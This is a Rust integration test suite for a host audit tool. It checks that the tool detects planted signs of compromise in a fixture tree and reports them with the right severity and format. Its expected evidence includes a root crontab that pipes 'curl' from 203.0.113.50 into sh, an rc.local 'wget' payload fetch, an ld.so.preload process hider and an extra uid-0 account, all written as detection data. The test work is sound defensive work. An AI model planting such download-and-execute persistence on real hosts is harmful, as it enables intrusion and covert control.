//! `flowmeter audit`, run as the real binary: every planted sign of the `compromised`
//! fixture tree found with its id, severity and evidence line; nothing above low in the
//! `clean` tree; the report's form and exit statuses; a live run; and, in test network
//! namespaces (root needed), an exposed database port reported with its process, a
//! `--watch` run that marks the process talking now and stops on SIGINT with its report,
//! the configuration file's `[verdict]` table applied to the process checks, and a
//! program run from a memfd that the allow-list (`--allow`, `[audit] allow`) names.

mod common;

use std::{
    io::{Read, Write},
    net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream},
    path::{Path, PathBuf},
    process::{Child, Command, Output},
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    thread,
    time::{Duration, Instant},
};

use common::{
    FLOWMETER, Flowmeter,
    netns::{Family, Netns, VethPair, unique_name},
    run_flowmeter,
};
use flowmeter::{
    datapath::{FlowId, Protocol},
    enrich::{
        geo::{HomeCountries, Location},
        sockets::ProcessInfo,
        verdict::{FlowContext, Reason, Rules, Verdict},
    },
};
use serde_json::Value;

const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/audit");
const EXIT_CLEAN: i32 = 0;
const EXIT_FAILURE: i32 = 1;
const EXIT_FOUND: i32 = 3;
/// Longest a run inside a namespace may take (loading the eBPF programs included).
const RUN_TIMEOUT: Duration = Duration::from_secs(60);

fn fixture(name: &str) -> String {
    format!("{FIXTURES}/{name}")
}

fn flowmeter(args: &[&str]) -> Output {
    Command::new(FLOWMETER)
        .args(args)
        .output()
        .unwrap_or_else(|e| panic!("running {FLOWMETER}: {e}"))
}

/// The one JSON object a `--json` run prints.
fn report(stdout: &[u8]) -> Value {
    let text = String::from_utf8_lossy(stdout);
    serde_json::from_str(text.trim())
        .unwrap_or_else(|e| panic!("not one JSON object ({e}): {text}"))
}

fn findings(report: &Value) -> &Vec<Value> {
    report["findings"].as_array().expect("findings is an array")
}

/// The findings with this id, as (severity, evidence).
fn with_id<'a>(report: &'a Value, id: &str) -> Vec<(&'a str, &'a str)> {
    findings(report)
        .iter()
        .filter(|f| f["id"] == id)
        .map(|f| {
            (
                f["severity"].as_str().unwrap(),
                f["evidence"].as_str().unwrap(),
            )
        })
        .collect()
}

const SEVERITIES: [&str; 5] = ["info", "low", "medium", "high", "critical"];

fn rank(severity: &str) -> usize {
    SEVERITIES
        .iter()
        .position(|s| *s == severity)
        .unwrap_or_else(|| panic!("unknown severity {severity}"))
}

/// Every finding has the documented fields, of the documented types.
fn assert_schema(report: &Value) {
    assert_eq!(report["v"], 1, "{report}");
    assert!(
        report["root"].is_string() && report["live"].is_boolean(),
        "{report}"
    );
    for finding in findings(report) {
        for field in ["id", "severity", "title", "evidence", "advice"] {
            let text = finding[field].as_str().unwrap_or_default();
            assert!(!text.is_empty(), "{field} missing in {finding}");
        }
        let id = finding["id"].as_str().unwrap();
        assert!(
            id.chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-'),
            "id is not kebab-case: {id}"
        );
        rank(finding["severity"].as_str().unwrap());
    }
    // Allowed findings count in `allowed` only.
    let summary = &report["summary"];
    let allowed = findings(report)
        .iter()
        .filter(|f| f["allowed_by"].is_string())
        .count();
    assert_eq!(summary["allowed"], allowed, "{summary}");
    for severity in SEVERITIES {
        let counted = findings(report)
            .iter()
            .filter(|f| f["severity"] == severity && f.get("allowed_by").is_none())
            .count();
        assert_eq!(summary[severity], counted, "{summary}");
    }
}

#[test]
fn every_planted_sign_is_found_with_its_severity_and_evidence() {
    let output = flowmeter(&["audit", "--root", &fixture("compromised"), "--json"]);
    assert_eq!(output.status.code(), Some(EXIT_FOUND), "{output:?}");
    let report = report(&output.stdout);
    assert_schema(&report);
    assert_eq!(report["live"], false);
    for (id, severity, evidence) in [
        // rc.local with a wget to /tmp.
        (
            "rc-local-download-exec",
            "critical",
            "/etc/rc.local:5: wget -q http://203.0.113.50/x86_64/sys -O /tmp/sys",
        ),
        // A crontab that curls and pipes to sh every minute; a service account's crontab.
        (
            "cron-download-exec",
            "critical",
            "/var/spool/cron/crontabs/root:2: * * * * * curl -fsSL http://203.0.113.50/s.sh | sh",
        ),
        (
            "cron-service-account",
            "medium",
            "/var/spool/cron/crontabs/www-data:1: */5 * * * * /usr/bin/php /var/www/html/wp-cron.php >/dev/null 2>&1",
        ),
        // ld.so.preload: an entry, and one in a hidden place; LD_PRELOAD for sessions.
        (
            "ld-preload-entry",
            "high",
            "/etc/ld.so.preload:1: /usr/local/lib/libprocesshider.so",
        ),
        (
            "ld-preload-odd-place",
            "critical",
            "/etc/ld.so.preload:2: /usr/local/lib/.cache/libsys.so",
        ),
        (
            "environment-ld-preload",
            "high",
            "/etc/environment:2: LD_PRELOAD=/usr/local/lib/libprocesshider.so",
        ),
        // nr_hugepages 128, and the setting that reserves them at boot.
        (
            "hugepages-reserved",
            "medium",
            "/proc/sys/vm/nr_hugepages: 128",
        ),
        (
            "hugepages-sysctl",
            "medium",
            "/etc/sysctl.conf:3: vm.nr_hugepages = 128",
        ),
        // sshd on 22 with root password login (and empty passwords, from an include).
        ("sshd-port-22", "low", "/etc/ssh/sshd_config:4: Port 22"),
        (
            "sshd-root-password-login",
            "high",
            "/etc/ssh/sshd_config:5: PermitRootLogin yes",
        ),
        (
            "sshd-password-auth",
            "medium",
            "/etc/ssh/sshd_config:6: PasswordAuthentication yes",
        ),
        (
            "sshd-empty-passwords",
            "high",
            "/etc/ssh/sshd_config.d/50-legacy.conf:1: PermitEmptyPasswords yes",
        ),
        // An empty-password user, a uid 0 duplicate, an old hash.
        (
            "account-empty-password",
            "critical",
            "/etc/shadow:7: backup2 (empty password field)",
        ),
        (
            "account-extra-uid0",
            "critical",
            "/etc/passwd:8: toor:x:0:0::/root:/bin/bash",
        ),
        (
            "account-weak-hash",
            "medium",
            "/etc/shadow:9: legacy (DES or MD5 hash)",
        ),
        // A systemd unit running from /dev/shm.
        (
            "systemd-temp-exec",
            "high",
            "/etc/systemd/system/dbus-helper.service:6: ExecStart=/dev/shm/.dbus/dbus-helper --daemon",
        ),
    ] {
        assert_eq!(
            with_id(&report, id),
            [(severity, evidence)],
            "{id}: all findings: {:#}",
            report["findings"]
        );
    }
    // Its mode depends on the checkout's umask.
    let executable = with_id(&report, "rc-local-executable");
    assert_eq!(executable.len(), 1, "{executable:?}");
    let (severity, evidence) = executable[0];
    assert_eq!(severity, "info");
    assert!(
        evidence.starts_with("/etc/rc.local (mode 07") && evidence.ends_with(", 3 commands)"),
        "{evidence}"
    );
    assert_eq!(
        findings(&report).len(),
        17,
        "no other finding: {:#}",
        report["findings"]
    );
    // Worst first.
    let ranks: Vec<usize> = findings(&report)
        .iter()
        .map(|f| rank(f["severity"].as_str().unwrap()))
        .collect();
    assert!(ranks.windows(2).all(|w| w[0] >= w[1]), "{ranks:?}");
    assert_eq!(report["summary"]["exit_status"], EXIT_FOUND);
    assert_eq!(report["summary"]["worst"], "critical");
    let notes = report["notes"].to_string();
    assert!(notes.contains("live-only checks skipped"), "{notes}");
    // The runbook's remedies.
    let advice = findings(&report)
        .iter()
        .map(|f| f["advice"].as_str().unwrap())
        .collect::<Vec<_>>()
        .join(" ");
    for step in [
        "Remove the entry",
        "back up the data",
        "reinstall",
        "12-16 characters",
        "remove unused users",
        "move sshd off port 22",
        "open only the ports the service needs",
        "never expose databases",
        "host protection with real-time alerts",
    ] {
        assert!(advice.contains(step), "no advice says {step:?}");
    }
}

#[test]
fn the_report_groups_by_severity_at_80_columns_and_ends_with_a_summary() {
    let output = flowmeter(&["audit", "--root", &fixture("compromised")]);
    assert_eq!(output.status.code(), Some(EXIT_FOUND), "{output:?}");
    let text = String::from_utf8(output.stdout).expect("UTF-8");
    for line in text.lines() {
        assert!(
            line.chars().count() <= 80,
            "longer than 80 columns: {line:?}"
        );
        assert!(!line.contains('\x1b'), "no colour: {line:?}");
    }
    // Group headings: `HIGH (5)`.
    let headings: Vec<&str> = text
        .lines()
        .filter(|line| {
            line.split_once(" (").is_some_and(|(word, count)| {
                word.chars().all(|c| c.is_ascii_uppercase())
                    && count.trim_end_matches(')').parse::<usize>().is_ok()
            })
        })
        .collect();
    assert_eq!(
        headings,
        [
            "CRITICAL (5)",
            "HIGH (5)",
            "MEDIUM (5)",
            "LOW (1)",
            "INFO (1)"
        ],
        "{text}"
    );
    let last = text.lines().last().unwrap();
    assert_eq!(
        last,
        "Summary: 5 critical, 5 high, 5 medium, 1 low, 1 info: needs action (exit 3)"
    );
    assert!(
        text.contains("[critical] rc-local-download-exec\n"),
        "{text}"
    );
    assert!(text.contains("live-only checks skipped"), "{text}");
}

#[test]
fn the_clean_tree_has_nothing_above_low() {
    let clean = fixture("clean");
    for json in [true, false] {
        let mut args = vec!["audit", "--root", clean.as_str()];
        if json {
            args.push("--json");
        }
        let output = flowmeter(&args);
        assert_eq!(output.status.code(), Some(EXIT_CLEAN), "{output:?}");
        if json {
            let report = report(&output.stdout);
            assert_schema(&report);
            for finding in findings(&report) {
                assert!(
                    rank(finding["severity"].as_str().unwrap()) <= rank("low"),
                    "{finding}"
                );
            }
            assert_eq!(report["summary"]["exit_status"], EXIT_CLEAN);
        } else {
            let text = String::from_utf8(output.stdout).unwrap();
            assert!(text.ends_with("nothing above low (exit 0)\n"), "{text}");
        }
    }
}

#[test]
fn a_missing_root_is_one_line_and_exit_status_1() {
    let missing = Path::new(FIXTURES).join("no-such-tree");
    let output = flowmeter(&["audit", "--root", missing.to_str().unwrap(), "--json"]);
    assert_eq!(output.status.code(), Some(EXIT_FAILURE), "{output:?}");
    assert!(output.stdout.is_empty(), "{output:?}");
    let stderr = String::from_utf8_lossy(&output.stderr);
    let lines: Vec<&str> = stderr.lines().collect();
    assert_eq!(lines.len(), 1, "{stderr}");
    assert!(lines[0].starts_with("flowmeter: cannot audit "), "{stderr}");
    assert!(lines[0].contains("--root"), "says what to do: {stderr}");

    // --watch meters this host: not a tree on disk.
    let output = flowmeter(&["audit", "--root", &fixture("clean"), "--watch", "1"]);
    assert_eq!(output.status.code(), Some(EXIT_FAILURE), "{output:?}");
    assert_eq!(String::from_utf8_lossy(&output.stderr).lines().count(), 1);
}

#[test]
fn a_live_run_completes_with_valid_json() {
    let output = flowmeter(&["audit", "--json"]);
    let status = output.status.code();
    assert!(
        matches!(status, Some(EXIT_CLEAN | EXIT_FOUND)),
        "{status:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    let report = report(&output.stdout);
    assert_schema(&report);
    assert_eq!(report["live"], true);
    assert_eq!(report["summary"]["exit_status"], status.unwrap());
    let notes = report["notes"].to_string();
    assert!(!notes.contains("live-only checks skipped"), "{notes}");
}

#[test]
fn the_compromised_trees_persistence_points_feed_the_verdicts() {
    let persistence = flowmeter::audit::persistence(Path::new(&fixture("compromised")));
    let points: Vec<(String, &str)> = persistence
        .entries()
        .map(|e| (e.point.display().to_string(), e.command.as_str()))
        .collect();
    assert_eq!(
        points,
        [
            (
                "/etc/rc.local".to_owned(),
                "wget -q http://203.0.113.50/x86_64/sys -O /tmp/sys"
            ),
            (
                "/var/spool/cron/crontabs/root".to_owned(),
                "* * * * * curl -fsSL http://203.0.113.50/s.sh | sh"
            ),
            (
                "/etc/systemd/system/dbus-helper.service".to_owned(),
                "ExecStart=/dev/shm/.dbus/dbus-helper --daemon"
            ),
        ]
    );
    // A process the unit starts is judged suspicious, launched from there.
    let helper = ProcessInfo {
        pid: 4242,
        comm: "dbus-helper".into(),
        exe: Some("/dev/shm/.dbus/dbus-helper".into()),
        exe_deleted: false,
        cgroup: Default::default(),
        uid: 0,
        user: "root".into(),
        cmdline: "/dev/shm/.dbus/dbus-helper --daemon".into(),
    };
    let home = HomeCountries::default();
    let mut context = FlowContext::new(Location::Unknown, &home);
    context.persistence = &persistence;
    let flow = FlowId {
        iface: Arc::from("eth0"),
        proto: Protocol(6),
        local_ip: Ipv4Addr::new(192, 0, 2, 1).into(),
        local_port: 40000,
        remote_ip: Ipv4Addr::new(198, 51, 100, 7).into(),
        remote_port: 443,
    };
    let judgement = Rules::default().judge(&flow, Some(&helper), &context);
    assert_eq!(judgement.verdict, Verdict::Suspicious);
    assert!(
        judgement.reasons.iter().any(|r| matches!(
            r,
            Reason::Persistence { point, .. } if point == Path::new("/etc/systemd/system/dbus-helper.service")
        )),
        "{:?}",
        judgement.reasons
    );
    // An unreadable root gives nothing, not an error.
    assert!(flowmeter::audit::persistence(Path::new("/no/such/tree")).is_empty());
}

/// A `sleep` that maps huge pages as far as flowmeter can tell: in a mount namespace of
/// its own, flowmeter reads a copy of the process's /proc status that says 2048 kB of
/// `HugetlbPages` (reserving real huge pages would change the whole host).
struct HugePageUser {
    sleep: Child,
    status: PathBuf,
}

impl HugePageUser {
    fn start() -> Self {
        let sleep = Command::new("sleep")
            .arg("60")
            .spawn()
            .expect("spawn sleep");
        let real = std::fs::read_to_string(format!("/proc/{}/status", sleep.id()))
            .expect("read the status of sleep");
        assert!(real.contains("HugetlbPages:"), "{real}");
        let status: String = real
            .lines()
            .map(|line| match line.starts_with("HugetlbPages:") {
                true => "HugetlbPages:\t    2048 kB\n".to_owned(),
                false => format!("{line}\n"),
            })
            .collect();
        let path =
            Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("audit-status-{}", sleep.id()));
        std::fs::write(&path, status).expect("write the status copy");
        Self {
            sleep,
            status: path,
        }
    }

    /// `flowmeter audit --json ARGS` in a mount namespace where /proc/PID/status is the copy.
    fn audit(&self, args: &[&str]) -> Output {
        let script = r#"mount --bind "$1" "/proc/$2/status" && shift 2 && exec "$@""#;
        Command::new("unshare")
            .args([
                "--mount",
                "--propagation",
                "private",
                "sh",
                "-c",
                script,
                "sh",
            ])
            .arg(&self.status)
            .arg(self.sleep.id().to_string())
            .args([FLOWMETER, "audit", "--json"])
            .args(args)
            .output()
            .expect("run flowmeter audit under unshare")
    }

    /// Whether the report holds `process-huge-pages` about this process.
    fn is_flagged(&self, output: &Output) -> bool {
        let report = report(&output.stdout);
        assert_schema(&report);
        findings(&report)
            .iter()
            .any(|f| f["id"] == "process-huge-pages" && f["process"]["pid"] == self.sleep.id())
    }
}

impl Drop for HugePageUser {
    fn drop(&mut self) {
        let _ = self.sleep.kill();
        let _ = self.sleep.wait();
        let _ = std::fs::remove_file(&self.status);
    }
}

#[test]
fn the_configuration_files_verdict_table_applies_to_the_process_checks() {
    let user = HugePageUser::start();
    let unknown = user.audit(&[]);
    assert_eq!(unknown.status.code(), Some(EXIT_FOUND), "{unknown:?}");
    assert!(
        user.is_flagged(&unknown),
        "an unknown huge-page user is flagged"
    );

    // The same table as a --rules file and in the configuration file: either one makes
    // `sleep` a known huge-page user, as it does for `top` and `log`.
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR"));
    let table = "[verdict]\nhuge_page_users = [\"sleep\"]\n";
    let rules = dir.join(format!("audit-rules-{}.toml", std::process::id()));
    std::fs::write(&rules, table).expect("write the rules file");
    let config = dir.join(format!("audit-config-{}.toml", std::process::id()));
    std::fs::write(&config, table).expect("write the configuration");
    for flag in ["--rules", "--config"] {
        let path = if flag == "--rules" { &rules } else { &config };
        let known = user.audit(&[flag, path.to_str().unwrap()]);
        assert!(
            matches!(known.status.code(), Some(EXIT_CLEAN | EXIT_FOUND)),
            "{known:?}"
        );
        assert!(
            !user.is_flagged(&known),
            "{flag}: a known user is not flagged"
        );
    }
}

/// A TCP listener on 0.0.0.0:6379 held by this test process, inside `netns`.
fn listen_like_redis(netns: &Netns) -> TcpListener {
    netns.run(|| TcpListener::bind((Ipv4Addr::UNSPECIFIED, 6379)).expect("bind 0.0.0.0:6379"))
}

/// The `socket-database-exposed` finding for 0.0.0.0:6379.
fn exposed_redis(report: &Value) -> &Value {
    findings(report)
        .iter()
        .find(|f| {
            f["id"] == "socket-database-exposed"
                && f["evidence"]
                    .as_str()
                    .unwrap_or_default()
                    .contains("0.0.0.0:6379")
        })
        .unwrap_or_else(|| panic!("no exposed 6379: {:#}", report["findings"]))
}

#[test]
fn a_database_port_open_to_all_is_reported_with_its_process() {
    let netns = Netns::new(unique_name());
    let _listener = listen_like_redis(&netns);
    let finished = run_flowmeter(&netns, "audit --json", RUN_TIMEOUT);
    assert_eq!(finished.status.code(), Some(EXIT_FOUND), "{finished:?}");
    let report = report(finished.stdout.join("\n").as_bytes());
    assert_schema(&report);
    let finding = exposed_redis(&report);
    assert_eq!(finding["severity"], "high", "{finding}");
    assert_eq!(finding["process"]["pid"], std::process::id(), "{finding}");
    let title = finding["title"].as_str().unwrap();
    assert!(
        title.starts_with("Redis (6379/tcp) listens on all addresses"),
        "{title}"
    );
    assert!(
        finding.get("traffic").is_none(),
        "no --watch, no traffic: {finding}"
    );
}

#[test]
fn watch_marks_the_process_talking_now() {
    let pair = VethPair::new(Family::V4);
    let listener = listen_like_redis(&pair.a);
    let server = SocketAddr::new(pair.a_ip, 6379);
    let client = pair
        .b
        .run(|| TcpStream::connect_timeout(&server, Duration::from_secs(5)).expect("connect"));
    let (mut accepted, _) = listener.accept().expect("accept");

    // A little traffic each way for as long as flowmeter watches.
    let stop = Arc::new(AtomicBool::new(false));
    let talker = {
        let stop = Arc::clone(&stop);
        let mut client = client;
        thread::spawn(move || {
            let mut reply = [0u8; 64];
            while !stop.load(Ordering::Relaxed) {
                client.write_all(b"PING\r\n").expect("send");
                accepted.read_exact(&mut reply[..6]).expect("receive");
                accepted.write_all(b"+PONG\r\n").expect("reply");
                client.read_exact(&mut reply[..7]).expect("read reply");
                thread::sleep(Duration::from_millis(50));
            }
        })
    };
    let args = format!("audit --watch 2 --json --iface {}", pair.a_if);
    let finished = Flowmeter::spawn(&pair.a, &args).wait(RUN_TIMEOUT);
    stop.store(true, Ordering::Relaxed);
    talker.join().expect("talker");
    assert_eq!(finished.status.code(), Some(EXIT_FOUND), "{finished:?}");

    let report = report(finished.stdout.join("\n").as_bytes());
    assert_schema(&report);
    assert_eq!(report["watched_s"], 2.0, "{report}");
    let finding = exposed_redis(&report);
    assert_eq!(finding["process"]["pid"], std::process::id(), "{finding}");
    let traffic = &finding["traffic"];
    let hosts: Vec<IpAddr> = traffic["remote_hosts"]
        .as_array()
        .unwrap_or_else(|| panic!("no traffic marked: {finding}"))
        .iter()
        .map(|h| h.as_str().unwrap().parse().unwrap())
        .collect();
    assert_eq!(hosts, [pair.b_ip], "{finding}");
    assert_eq!(traffic["remote_host_count"], 1);
    assert!(traffic["bytes"].as_u64().unwrap() > 0, "{finding}");
    // Private addresses have no country.
    assert_eq!(traffic["countries"], serde_json::json!([]));
    // With the findings whose process talks now, at the top (a test binary built under
    // /tmp has a second such finding: it runs from a temporary directory).
    let all = findings(&report);
    let position = all.iter().position(|f| f == finding).expect("listed");
    for earlier in &all[..position] {
        assert!(
            earlier.get("traffic").is_some(),
            "a finding without traffic comes first: {:#}",
            report["findings"]
        );
    }
}

#[test]
fn watch_stops_on_sigint_and_still_prints_the_report() {
    let pair = VethPair::new(Family::V4);
    // Once it says "watching traffic", the programs are attached and the signals taken.
    let (child, stderr_reader) = common::spawn_until_stderr(
        &pair.a,
        &["audit", "--watch", "60", "--json", "--iface", &pair.a_if],
        "watching traffic",
        RUN_TIMEOUT,
    );
    let signalled = Instant::now();
    // SAFETY: kill has no memory preconditions; the pid is our unreaped child.
    assert_eq!(
        unsafe { libc::kill(child.id() as libc::pid_t, libc::SIGINT) },
        0
    );
    let output = child.wait_with_output().expect("wait for flowmeter audit");
    let stderr = stderr_reader.join().expect("stderr reader");
    assert!(
        signalled.elapsed() < Duration::from_secs(10),
        "took {:?} to stop",
        signalled.elapsed()
    );
    assert!(
        matches!(output.status.code(), Some(EXIT_CLEAN | EXIT_FOUND)),
        "{:?}: {stderr}",
        output.status
    );
    assert_schema(&report(&output.stdout));
}

/// A copy of `sleep` in a memfd, run from it as a container runtime runs itself: its exe
/// is `/memfd:NAME (deleted)`. The audit runs in fresh PID and network namespaces, so
/// that it sees only the processes of the test (no other process or socket of the host
/// changes its report between runs).
struct MemfdProgram {
    name: String,
    memfd: std::os::fd::OwnedFd,
}

impl MemfdProgram {
    fn new() -> Self {
        use std::os::fd::FromRawFd;
        let name = format!("fm-agent-{}", std::process::id());
        let c_name = std::ffi::CString::new(name.clone()).unwrap();
        // Without MFD_CLOEXEC: the shell that runs it inherits it.
        let fd = unsafe { libc::memfd_create(c_name.as_ptr(), 0) };
        assert!(fd >= 0, "memfd_create: {}", std::io::Error::last_os_error());
        let memfd = unsafe { std::os::fd::OwnedFd::from_raw_fd(fd) };
        let sleep = ["/usr/bin/sleep", "/bin/sleep"]
            .into_iter()
            .find(|path| Path::new(path).exists())
            .expect("a sleep binary");
        let mut file = std::fs::File::from(memfd.try_clone().expect("dup the memfd"));
        file.write_all(&std::fs::read(sleep).expect("read sleep"))
            .expect("fill the memfd");
        Self { name, memfd }
    }

    /// `flowmeter audit ARGS` in new PID and network namespaces, with the memfd program
    /// running beside it when `running`. The namespace's init is the shell: when it
    /// ends, the program goes with it.
    fn audit(&self, running: bool, args: &[&str]) -> Output {
        use std::os::fd::AsRawFd;
        // Starts the program and waits (at most 5 s) until it runs from the memfd.
        let script = r#"
            fd="$1"; shift
            if [ "$fd" != none ]; then
                "/proc/self/fd/$fd" 60 &
                agent=$!; tries=0
                until readlink "/proc/$agent/exe" | grep -q '^/memfd:'; do
                    tries=$((tries + 1)); [ "$tries" -gt 100 ] && exit 97
                    sleep 0.05
                done
            fi
            exec "$@"
        "#;
        let fd = match running {
            true => self.memfd.as_raw_fd().to_string(),
            false => "none".to_owned(),
        };
        let output = Command::new("unshare")
            .args([
                "--pid",
                "--fork",
                "--mount-proc",
                "--net",
                "sh",
                "-c",
                script,
                "sh",
            ])
            .arg(fd)
            .args([FLOWMETER, "audit"])
            .args(args)
            .output()
            .expect("run flowmeter audit under unshare");
        assert_ne!(
            output.status.code(),
            Some(97),
            "the memfd program did not start"
        );
        output
    }

    /// The findings about this program, as (id, severity, allowed_by).
    fn findings_about<'a>(&self, report: &'a Value) -> Vec<(&'a str, &'a str, Option<&'a str>)> {
        let exe = format!("/memfd:{}", self.name);
        findings(report)
            .iter()
            .filter(|f| f["process"]["exe"] == exe.as_str())
            .map(|f| {
                (
                    f["id"].as_str().unwrap(),
                    f["severity"].as_str().unwrap(),
                    f["allowed_by"].as_str(),
                )
            })
            .collect()
    }
}

/// The summary's counts per severity and its exit status, the allowed count left out.
fn counted(report: &Value) -> Vec<&Value> {
    let summary = &report["summary"];
    SEVERITIES
        .iter()
        .map(|s| &summary[*s])
        .chain([&summary["exit_status"]])
        .collect()
}

#[test]
fn an_allowed_memfd_program_is_reported_as_allowed_and_counts_for_nothing() {
    common::netns::require_root();
    let program = MemfdProgram::new();
    let entry = format!("memfd:{}", program.name);

    // The host as it is without the program: what an allowed program must leave as is.
    let clean = program.audit(false, &["--json"]);
    let clean_report = report(&clean.stdout);
    assert_schema(&clean_report);
    assert!(program.findings_about(&clean_report).is_empty());

    // Without an entry: high, as ever, and the audit says act.
    let plain = program.audit(true, &["--json"]);
    assert_eq!(plain.status.code(), Some(EXIT_FOUND), "{plain:?}");
    let plain_report = report(&plain.stdout);
    assert_schema(&plain_report);
    assert_eq!(
        program.findings_about(&plain_report),
        [("process-exe-deleted", "high", None)]
    );

    // With the entry, on the command line or in the configuration file: allowed, named,
    // and the exit status and counts of the host without the program.
    let config = Path::new(env!("CARGO_TARGET_TMPDIR"))
        .join(format!("audit-allow-{}.toml", std::process::id()));
    std::fs::write(&config, format!("[audit]\nallow = [\"{entry}\"]\n")).unwrap();
    for args in [
        vec!["--json", "--allow", entry.as_str()],
        vec!["--json", "--config", config.to_str().unwrap()],
    ] {
        let allowed = program.audit(true, &args);
        assert_eq!(
            allowed.status.code(),
            clean.status.code(),
            "{args:?}: {allowed:?}"
        );
        let allowed_report = report(&allowed.stdout);
        assert_schema(&allowed_report);
        assert_eq!(
            program.findings_about(&allowed_report),
            [("process-exe-deleted", "high", Some(entry.as_str()))],
            "{args:?}"
        );
        assert_eq!(allowed_report["summary"]["allowed"], 1, "{args:?}");
        assert_eq!(counted(&allowed_report), counted(&clean_report), "{args:?}");
    }

    // The text report shows it in its own section, with the entry.
    let text = program.audit(true, &["--allow", entry.as_str()]);
    assert_eq!(text.status.code(), clean.status.code(), "{text:?}");
    let text = String::from_utf8(text.stdout).unwrap();
    let section = text
        .find("\nALLOWED (1): named by the allow-list, not counted\n")
        .unwrap_or_else(|| panic!("no ALLOWED section: {text}"));
    let allowed = &text[section..];
    assert!(
        allowed.contains("[high] process-exe-deleted\n")
            && allowed.contains(&format!("/memfd:{} (deleted)", program.name))
            && allowed.contains(&format!("\n  allowed   by {entry}; remove the entry")),
        "{text}"
    );
    // The summary line, as wrapped at 80 columns.
    let words = text.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(words.contains(", 1 allowed: "), "{text}");

    // Entries that name something else change nothing.
    let other = format!("{entry}-other");
    let unrelated = program.audit(
        true,
        &[
            "--json",
            "--allow",
            &other,
            "--allow",
            "unit:fm-none.service",
            "--allow",
            "exe:/usr/bin/sleep",
        ],
    );
    assert_eq!(unrelated.status.code(), Some(EXIT_FOUND), "{unrelated:?}");
    let unrelated_report = report(&unrelated.stdout);
    assert_eq!(
        program.findings_about(&unrelated_report),
        [("process-exe-deleted", "high", None)]
    );
    assert_eq!(unrelated_report["summary"], plain_report["summary"]);
    let _ = std::fs::remove_file(&config);
}
